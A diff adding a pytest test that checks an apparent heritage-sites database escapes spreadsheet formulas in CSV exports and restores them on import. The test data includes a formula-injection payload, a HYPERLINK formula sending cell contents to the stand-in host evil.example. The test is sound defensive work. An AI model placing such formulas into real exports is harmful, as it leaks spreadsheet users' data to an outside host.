@@ -101,6 +101,21 @@ def test_round_trip_keeps_arabic_long_texts_and_dates(enriched, tmp_path, fmt):
     assert park["protection_date"] == dt.date(1991, 8, 8) and len(park["description_en"].encode()) > 254
 
 
+def test_a_csv_export_never_hands_a_spreadsheet_a_formula_and_reads_back_as_typed(session, tmp_path):
+    typed = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    site = session.scalar(select(Site).where(Site.slug == "bab-el-khemis"))
+    site.description_en, site.period = typed, "@SUM(1+1)"
+    session.flush()
+    path = export(session, "sites", "csv", tmp_path)
+    with path.open(encoding="utf-8", newline="") as f:
+        row = next(r for r in csv.DictReader(f) if r["slug"] == "bab-el-khemis")
+    assert (row["description_en"], row["period"]) == ("'" + typed, "'@SUM(1+1)")
+    cells = [cell for r in csv.reader(path.open(encoding="utf-8", newline="")) for cell in r]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
+    records = {r["slug"]: r for r in parse_rows(read_file(path), "sites")[0]}
+    assert (records["bab-el-khemis"]["description_en"], records["bab-el-khemis"]["period"]) == (typed, "@SUM(1+1)")
+
+
 @pytest.mark.parametrize("layer, stems", [("sites", ["lines", "points"]), ("associations", ["points"]),
                                           ("projects", ["lines", "points", "polygons"])])
 def test_shapefile_zip_holds_one_shapefile_per_dimension_with_prj_and_utf8_cpg(session, tmp_path, layer, stems):
